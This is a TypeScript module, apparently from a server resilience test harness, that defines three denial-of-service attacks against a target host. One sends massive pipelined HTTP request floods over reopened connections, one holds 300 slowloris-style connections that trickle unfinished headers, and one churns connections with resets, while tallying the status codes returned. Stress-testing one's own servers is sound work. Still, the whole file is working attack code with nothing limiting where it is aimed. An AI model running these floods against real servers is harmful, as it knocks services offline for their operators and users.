import { connect, type Socket } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';
import { type Attack, AttackRun } from './http-attack';

const PIPELINED = 1_600;
const PIPELINES = 10;
const SLOW_CONNECTIONS = 300;
const SHORT_CONNECTIONS = 20;

/** Ten connections that send 1,600 pipelined requests each, and are reopened as soon as they are closed. */
export const pipelines: Attack = (target) => {
  const run = new AttackRun(target);
  const cookie = Object.entries(run.headers).map(([name, value]) => `${name}: ${value}\r\n`);
  const text = `GET /api/v1/zones?q=a HTTP/1.1\r\nHost: x\r\n${cookie.join('')}\r\n`.repeat(PIPELINED);
  return run.inParallel(PIPELINES, async () => {
    run.report.sent += PIPELINED;
    await exchange(run, (socket) => socket.write(text));
  });
};

/** Connections that send the head of a request byte by byte and never complete it. */
export const slowHeads: Attack = (target) => {
  const run = new AttackRun(target);
  return run.inParallel(SLOW_CONNECTIONS, async () => {
    run.report.sent += 1;
    await exchange(run, (socket) => {
      socket.write('GET / HTTP/1.1\r\nHost: x\r\nX: ');
      const trickle = setInterval(() => socket.write('x'), 1_000);
      socket.once('close', () => clearInterval(trickle));
    });
  });
};

/** Twenty clients that open and close connections without a request. */
export const shortConnections: Attack = (target) => {
  const run = new AttackRun(target);
  return run.inParallel(SHORT_CONNECTIONS, async (turn) => {
    run.report.sent += 1;
    await exchange(run, (socket) => (turn % 2 === 0 ? socket.resetAndDestroy() : socket.end()));
  });
};

/** Opens a connection, and resolves when it is closed or the attack is over. */
async function exchange(run: AttackRun, begin: (socket: Socket) => void): Promise<void> {
  const { host, port, localAddress } = run;
  const socket = connect({ host, port, localAddress });
  const limit = setTimeout(() => socket.destroy(), run.remainingMs);
  let last = '';
  await new Promise<void>((resolve) => {
    socket.on('connect', () => begin(socket));
    socket.on('data', (chunk: Buffer) => {
      for (const [, status] of (last + chunk.toString('latin1')).matchAll(/HTTP\/1\.1 (\d{3}) /g))
        run.count(Number(status));
      // A status line may be split between chunks; a complete one is too long to be counted again.
      last = chunk.subarray(-12).toString('latin1');
    });
    socket.on('error', () => undefined).on('close', () => resolve());
  });
  clearTimeout(limit);
  await pause(1);
}
